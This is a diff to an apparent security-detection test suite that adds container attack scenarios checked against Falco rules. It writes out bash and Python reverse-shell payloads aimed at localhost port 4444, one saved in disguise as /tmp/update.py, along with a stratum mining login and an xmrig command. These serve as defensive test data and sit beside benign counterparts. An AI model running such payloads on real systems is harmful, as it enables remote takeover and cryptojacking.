@@ -31,6 +31,18 @@ HTTP = (
     "(cd /srv && exec python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1) & "
     "curl -s --retry 50 --retry-connrefused --retry-delay 0 -o /dev/null http://127.0.0.1:8000/; "
 )
+# A one-connection TCP server on every address, port 8080, and a client sending it one
+# message through the container's private address.
+STRATUM_SERVER = (
+    'python3 -c \'import socket; s=socket.create_server(("", 8080)); s.settimeout(20); '
+    "s.accept()[0].recv(512)' & "
+)
+STRATUM_CLIENT = (
+    "python3 -c 'import socket,sys; s=socket.create_connection((sys.argv[1], 8080)); "
+    "s.sendall(sys.argv[2].encode())' $(hostname -i) '{}'"
+)
+STRATUM_LOGIN = '{{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}}'
+HTTP_GET = "GET / HTTP/1.1"
 # A one-request HTTP server on a unix socket, and curl asking it for the version as a
 # docker client would.
 UNIX_SERVER = (
@@ -83,14 +95,20 @@ SCENARIOS: dict[str, Scenario] = {
     "02a-reverse-shell-bash-dev-tcp": Scenario(
         "Reverse shell or netcat execution",
         "Critical",
-        falco=falco("Launch Suspicious Network Tool in Container"),
+        falco=falco(
+            "Launch Suspicious Network Tool in Container",
+            "Redirect STDOUT/STDIN to Network Connection in Container",
+        ),
         attack=bash(LISTENER + RETRY.format("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")),
         benign=bash("echo hello > /tmp/greeting"),
     ),
     "02b-reverse-shell-python-dup2": Scenario(
         "Reverse shell or netcat execution",
         "Critical",
-        falco=falco("Launch Suspicious Network Tool in Container"),
+        falco=falco(
+            "Launch Suspicious Network Tool in Container",
+            "Redirect STDOUT/STDIN to Network Connection in Container",
+        ),
         attack=bash(
             LISTENER
             + RETRY.format(
@@ -122,6 +140,23 @@ SCENARIOS: dict[str, Scenario] = {
             )
         ),
         benign=bash("rm -f /tmp/f; mkfifo /tmp/f; (echo hi > /tmp/f &); cat /tmp/f"),
+    ),
+    "02e-reverse-shell-python-script": Scenario(
+        "Standard streams redirected to a network connection in container",
+        "Critical",
+        falco=falco("Redirect STDOUT/STDIN to Network Connection in Container"),
+        # The payload in a file: no telltale command line, only the dup2 calls give it away.
+        attack=bash(
+            "printf '%s\\n' 'import socket,os,pty' 's=socket.socket()' "
+            "'s.connect((\"127.0.0.1\",4444))' '[os.dup2(s.fileno(),f) for f in (0,1,2)]' "
+            "'pty.spawn(\"/bin/sh\")' > /tmp/update.py && "
+            + LISTENER
+            + RETRY.format("python3 /tmp/update.py")
+        ),
+        benign=bash(
+            'python3 -c \'import socket; s=socket.create_server(("127.0.0.1", 4444)); '
+            "s.settimeout(20); s.accept()[0].recv(8)' & " + RETRY.format(PY_CLIENT)
+        ),
     ),
     "03-nc-e": Scenario(
         "Reverse shell or netcat execution",
@@ -236,6 +271,13 @@ SCENARIOS: dict[str, Scenario] = {
         "Critical",
         attack=bash("ln -s /bin/true /tmp/xmrig && /tmp/xmrig -o stratum+tcp://pool.invalid:3333"),
         benign=bash("ln -s /bin/true /tmp/worker && /tmp/worker -o https://example.invalid"),
+    ),
+    "10b-stratum-any-port-private-address": Scenario(
+        "Stratum mining protocol sent",
+        "Critical",
+        # A pool listening on port 8080 of the container's own private address (10.88/16).
+        attack=bash(STRATUM_SERVER + RETRY.format(STRATUM_CLIENT.format(STRATUM_LOGIN))),
+        benign=bash(STRATUM_SERVER + RETRY.format(STRATUM_CLIENT.format(HTTP_GET))),
     ),
     "11a-nmap": Scenario(
         "Network tool launched in container",
